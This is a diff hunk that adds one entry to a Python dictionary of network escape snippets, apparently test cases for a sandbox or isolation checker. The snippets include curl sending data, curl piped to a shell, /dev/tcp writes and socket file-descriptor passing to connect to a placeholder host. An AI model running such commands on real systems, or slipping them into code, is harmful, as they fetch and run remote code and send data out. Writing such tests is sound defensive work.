@@ -19,6 +19,7 @@ NETWORK = {
     "a socket from the parent": "a, b = socket.socketpair(); s = socket.socket()\nif os.fork() == 0: s.connect(('@host@', @port@)); s.send(b'EVIL'); os._exit(0)\nos.wait()",
     "a socket passed on": "import array\na, b = socket.socketpair(); s = socket.socket()\nif os.fork() == 0:\n    f = array.array('i'); m = b.recvmsg(1, 64); f.frombytes(m[1][0][2][:4]); c = socket.socket(fileno=f[0])\n    c.connect(('@host@', @port@)); c.send(b'EVIL'); os._exit(0)\na.sendmsg([b'x'], [(1, 1, array.array('i', [s.fileno()]))]); os.wait()",
     "curl with data": "#!/bin/sh\ncurl -s -m 3 -d EVIL http://@host@:@port@/",
+    "curl with a file for headers": "#!/bin/sh\necho X: EVIL > x; curl -s -m 3 -H @x http://@host@:@port@/",
     "curl to a shell": "#!/bin/sh\ncurl -s -m 3 http://@host@:@port@/ | sh",
     "curl's file to a shell": "#!/bin/sh\ncurl -s -m 3 -o x http://@host@:@port@/; sh x",
     "bash by itself": "#!/bin/bash\necho EVIL > /dev/tcp/@host@/@port@",
